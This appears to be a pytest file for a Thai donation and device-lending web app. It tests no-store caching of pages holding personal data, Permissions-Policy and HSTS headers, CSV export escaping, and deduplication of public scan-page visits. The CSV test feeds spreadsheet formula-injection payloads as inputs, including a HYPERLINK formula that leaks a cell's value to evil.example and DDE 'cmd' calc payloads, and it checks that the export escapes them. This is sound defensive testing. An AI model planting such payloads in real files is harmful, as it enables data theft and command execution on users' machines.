"""Smaller holes: no copy of personal data kept by browsers or proxies, the Permissions-Policy and
HSTS headers, journal CSV cells that cannot run as formulas, and a public scan page that a
reloading visitor cannot use to fill the scan table."""
from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import func, select

from fixtures.core import at_bangkok, build_app
from core.db import db
from devices.models import ScanEvent
from fund.services import ledger
from fixtures.core import Api


# --- Cache-Control, Permissions-Policy, HSTS -----------------------------------------------------

@pytest.fixture
def person_id(client, api_headers):
    api = Api(client, api_headers("staff"))
    return api.post("/api/v1/people", {"first_name": "สมศรี", "last_name": "ใจดี", "national_id": "1101700230708",
                                       "consent": {"given_by": "สมศรี ใจดี"}}, expect=201)["id"]


@pytest.fixture
def receipt_path(app, client, api_headers):
    with app.app_context():
        ledger.ensure_chart()
        db.session.commit()
    api = Api(client, api_headers("treasurer"))
    donor = api.post("/api/v1/donors", {"name": "นายใจดี มีทรัพย์", "tax_id": "1101700230708"}, expect=201)
    gift = api.post("/api/v1/donations", {"donor_id": donor["id"], "amount_satang": 125_000, "fund": "GENERAL"},
                    expect=201)
    return f"/fund/donations/{gift['id']}/receipt.pdf"


def test_nothing_with_personal_data_is_kept_by_a_browser_or_proxy(client, client_as, api_headers, person_id,
                                                                 receipt_path):
    staff, treasurer = client_as("staff"), client_as("treasurer")
    answers = [staff.get(f"/people/{person_id}"), staff.get("/people"), treasurer.get(receipt_path),
               client.get(f"/api/v1/people/{person_id}", headers=api_headers("staff")), client.get("/login")]
    assert answers[2].mimetype == "application/pdf"
    for response in answers:
        assert response.status_code == 200
        assert response.headers["Cache-Control"] == "no-store"
    static = client.get("/static/css/app.css")
    static.close()
    assert "no-store" not in static.headers.get("Cache-Control", "")


def test_a_label_image_may_be_kept_privately_for_a_while(client_as, make_device):
    tag = make_device("WC")
    response = client_as("staff").get(f"/labels/{tag}.png")
    assert response.headers["Cache-Control"] == "private, max-age=300"


def test_permissions_policy_allows_only_the_camera_and_location_of_the_app(client):
    policy = client.get("/login").headers["Permissions-Policy"]
    assert "camera=(self)" in policy and "geolocation=(self)" in policy and "microphone=()" in policy


def test_hsts_over_https_only(client):
    assert "Strict-Transport-Security" not in client.get("/login").headers
    response = client.get("/login", base_url="https://lend.test")
    assert response.headers["Strict-Transport-Security"] == f"max-age={365 * 86400}"


def test_hsts_behind_a_proxy_that_terminates_https(tmp_path, monkeypatch):
    monkeypatch.setenv("HSTS_DAYS", "180")
    app = build_app(f"sqlite:///{tmp_path / 'proxy.db'}", TRUST_PROXY=True)
    response = app.test_client().get("/login", headers={"X-Forwarded-Proto": "https"})
    assert response.headers["Strict-Transport-Security"] == f"max-age={180 * 86400}"
    monkeypatch.setenv("HSTS_DAYS", "0")
    app = build_app(f"sqlite:///{tmp_path / 'none.db'}", TRUST_PROXY=True)
    assert "Strict-Transport-Security" not in app.test_client().get(
        "/login", headers={"X-Forwarded-Proto": "https"}).headers
    monkeypatch.setenv("HSTS_DAYS", "a year")
    with pytest.raises(RuntimeError, match="HSTS_DAYS"):
        build_app(f"sqlite:///{tmp_path / 'bad.db'}")


# --- the journal's CSV ---------------------------------------------------------------------------

@pytest.mark.parametrize("memo", ['=HYPERLINK("https://evil.example/?d="&A1,"ดูใบเสร็จ")', "+1+cmd|' /C calc'!A0",
                                  "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"])
def test_journal_csv_cells_never_run_as_formulas(app, client, client_as, api_headers, memo):
    with app.app_context():
        ledger.ensure_chart()
        db.session.commit()
    api = Api(client, api_headers("treasurer"))
    donor = api.post("/api/v1/donors", {"name": "=cmd|' /C calc'!A0"}, expect=201)
    gift = api.post("/api/v1/donations", {"donor_id": donor["id"], "amount_satang": 125_000, "fund": "GENERAL"},
                    expect=201)
    api.post(f"/api/v1/ledger/entries/{gift['entry_id']}/reverse", {"memo": memo}, expect=201)
    text = client_as("treasurer").get("/fund/journal?format=csv").get_data(as_text=True).lstrip("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text)))
    typed = [row for row in rows if row["memo"].lstrip("'") == memo]
    assert len(typed) == 2 and all(row["memo"] == "'" + memo for row in typed)
    for row in rows:
        assert not row["memo"].startswith(("=", "+", "-", "@"))
    amounts = [float(row["amount_baht"]) for row in rows]  # numbers stay numbers, negative ones too
    assert -1250.0 in amounts and 1250.0 in amounts


# --- the public scan page ---------------------------------------------------------------------

def scans(app) -> int:
    with app.app_context():
        return db.session.scalar(select(func.count()).select_from(ScanEvent))


def test_a_visitor_reloading_the_public_scan_page_writes_one_row(app, client, make_device):
    tag, other_tag = make_device("WC"), make_device("WC")
    for _ in range(60):
        assert client.get(f"/d/{tag}").status_code == 200
    assert scans(app) == 1
    client.get(f"/d/{other_tag}")                                          # another device
    client.get(f"/d/{tag}", environ_base={"REMOTE_ADDR": "203.0.113.9"})   # another visitor
    assert scans(app) == 3
    with at_bangkok(2026, 11, 30, 11, 0):                                  # an hour later: a new visit
        client.get(f"/d/{tag}")
    assert scans(app) == 4
    with app.app_context():
        assert all(len(s.client_key) == 32 and "127.0.0.1" not in s.client_key
                   for s in db.session.scalars(select(ScanEvent)))


def test_one_phone_rotating_its_ipv6_address_is_one_visitor(app, client, make_device):
    tag = make_device("WC")
    for suffix in range(1, 11):
        client.get(f"/d/{tag}", environ_base={"REMOTE_ADDR": f"2001:db8:1:2::{suffix:x}"})
    client.get(f"/d/{tag}", environ_base={"REMOTE_ADDR": "2001:db8:1:3::1"})
    assert scans(app) == 2


def test_staff_scans_are_each_recorded(app, client_as, make_device):
    tag = make_device("WC")
    staff = client_as("staff")
    for _ in range(3):
        staff.get(f"/d/{tag}")
    assert scans(app) == 3
